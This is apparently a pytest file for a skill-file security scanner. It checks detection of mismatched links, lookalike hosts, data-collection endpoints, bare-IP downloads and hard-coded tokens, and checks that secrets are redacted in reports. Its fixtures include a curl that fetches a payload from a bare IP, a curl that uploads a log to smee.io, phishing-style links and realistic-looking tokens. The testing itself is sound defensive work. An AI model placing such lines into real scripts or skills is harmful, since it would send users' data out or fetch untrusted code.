"""Deception in links and hosts, and hard-coded secrets shown redacted."""

from __future__ import annotations

import pytest

from skillscope.audit.behavior.engine import SkillFileText, scan_skill
from tests.audit.behavior.helpers import rules, severity


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (
            "See [https://github.com/acme/tool](https://github-login.example.net/acme).",
            "skillscope/deception/link-mismatch",
        ),
        ("Sign in at [docs.python.org](https://py-docs.example.net/login).", "skillscope/deception/link-mismatch"),
        (
            'Open <a href="https://evil.example.net/x">https://www.google.com/</a>.',
            "skillscope/deception/link-mismatch",
        ),
        ("Download from https://xn--pple-43d.com/app.", "skillscope/deception/lookalike-host"),
        ("Download from https://g\u043e\u043egle.com/app.", "skillscope/deception/lookalike-host"),
        ("Results go to https://webhook.site/3f1c-9a.", "skillscope/deception/exfil-endpoint"),
        ("Upload to https://abcd-1-2.ngrok-free.app/in.", "skillscope/deception/exfil-endpoint"),
        ("Paste at https://pastebin.com/raw/x1.", "skillscope/deception/exfil-endpoint"),
        ("Post to https://discord.com/api/webhooks/123/abc.", "skillscope/deception/chat-webhook"),
        ("Fetch http://198.51.100.7:8080/p.", "skillscope/deception/bare-ip"),
    ],
)
def test_deceptive_hosts_are_found(text, rule):
    assert rule in rules({"SKILL.md": f"# Links\n\n{text}\n"})


@pytest.mark.parametrize(
    "text",
    [
        "See [https://github.com/acme/tool](https://github.com/acme/tool).",
        "See [github.com/acme](https://www.github.com/acme) and [the docs](https://docs.example.com/).",
        "Read [example.com](https://docs.example.com/guide).",
        "Serve on http://127.0.0.1:8000/ or http://localhost:3000/.",
        "Visit https://münchen.example/ for the city guide.",
        "Set SLACK_WEBHOOK_URL, e.g. https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX.",
        "Read [SKILL.md](https://github.com/acme/skills/blob/main/SKILL.md) and [setup.py](https://github.com/acme/x/blob/main/setup.py).",
    ],
)
def test_honest_links_stay_quiet(text):
    assert {r for r in rules({"SKILL.md": f"# Links\n\n{text}\n"}) if r.startswith("skillscope/deception")} == set(), (
        text
    )


def test_a_bare_ip_in_a_script_is_an_error_and_in_a_doc_a_warning():
    assert severity(
        {"scripts/a.sh": "#!/bin/sh\ncurl -s http://198.51.100.7/p -o /tmp/p\n"}, "skillscope/deception/bare-ip"
    ) == ["error"]
    assert severity({"README.md": "Mirror: http://198.51.100.7/p\n"}, "skillscope/deception/bare-ip") == ["warning"]


TOKEN = "ghp_" + "Zq8vN3kLm0Pw7RtY2xBc5HdJ9sFgA1eKuV4i"


def test_a_provider_token_is_found_and_never_shown():
    (hit,) = [
        h
        for _, h in scan_skill([SkillFileText("scripts/c.py", f"TOKEN = '{TOKEN}'\n")], {})
        if h.id == "skillscope/secrets/token"
    ]
    assert "GitHub token" in hit.message and "redacted" in hit.message
    assert (
        TOKEN not in hit.message and TOKEN not in (hit.at.excerpt or "") and TOKEN[-20:] not in (hit.at.excerpt or "")
    )
    assert hit.at.line == 1


def test_a_private_key_block_is_found_and_its_body_hidden():
    key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----\n"
    (hit,) = [h for _, h in scan_skill([SkillFileText("assets/id", key)], {}) if h.id == "skillscope/secrets/token"]
    assert "private key" in hit.message and "b3BlbnNz" not in (hit.at.excerpt or "")


@pytest.mark.parametrize(
    "text",
    [
        "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
        "token: ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
        "Set OPENAI_API_KEY=sk-your-key-here",
        "export GITHUB_TOKEN=<your token>",
    ],
)
def test_placeholders_are_not_secrets(text):
    assert "skillscope/secrets/token" not in rules({"README.md": text + "\n"})


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("scripts/post.py", 'TOKEN = "xoxb-2048573610-4096718253614-Qm7vZpR2kT9sWx4yHn6LcBd1"\n'),
        ("scripts/b.sh", "#!/bin/sh\nexport AWS_ACCESS_KEY_ID=AKIAQX4BHMW7ZT2LN5PV\n"),
        ("scripts/r.py", 'import stripe\nstripe.api_key = "sk_live_51MzQ8vK2xT7pR4wL9nB3cY6hJ1dF5gA0sE8uQ2mZ"\n'),
        ("references/config.md", "```sh\nGH_TOKEN=ghp_R7mK2xQ9vT4pW1nL8sZ3bC6yH5jD0fG2aE9u\n```\n"),
        ("config.json", '{"apiKey": "sk-proj-Xr4TqW9mZ2vK7pL1sN8bC3dF6gH0jY5uE2aR9tQ4wM7xV1zB"}\n'),
    ],
)
def test_a_token_set_as_the_credential_the_skill_uses_is_an_error(path, text):
    assert severity({path: text}, "skillscope/secrets/token") == ["error"]


def test_a_token_merely_written_down_stays_a_warning_and_a_placeholder_is_quiet():
    shown = "Tokens look like ghp_R7mK2xQ9vT4pW1nL8sZ3bC6yH5jD0fG2aE9u in the logs.\n"
    assert severity({"README.md": shown}, "skillscope/secrets/token") == ["warning"]
    assert "skillscope/secrets/token" not in rules(
        {"scripts/b.sh": "#!/bin/sh\nexport GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n"}
    )


@pytest.mark.parametrize(
    "token",
    [
        "shpat_" + "a1b2c3d4e5f60718293a4b5c6d7e8f90",
        "dop_v1_" + "0a1b2c3d4e5f60718293a4b5c6d7e8f9" * 2,
        "lin_api_" + "Ab3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6kL9n",
        "gsk_" + "Xr4TqW9mZ2vK7pL1sN8bC3dF6gH0jY5uE2aR9tQ4wM7xV1zB",
    ],
)
def test_more_provider_token_formats_are_found(token):
    assert "skillscope/secrets/token" in rules({"notes.md": f"The key is {token} here.\n"})


def test_more_collector_and_tunnel_hosts_are_endpoints():
    assert "skillscope/deception/exfil-endpoint" in rules(
        {"scripts/u.sh": "#!/bin/sh\ncurl -s -T out.log https://smee.io/abc\n"}
    )
    assert "skillscope/deception/exfil-endpoint" not in rules(
        {"scripts/u.sh": "#!/bin/sh\ncurl -s https://api.example.io/v1\n"}
    )
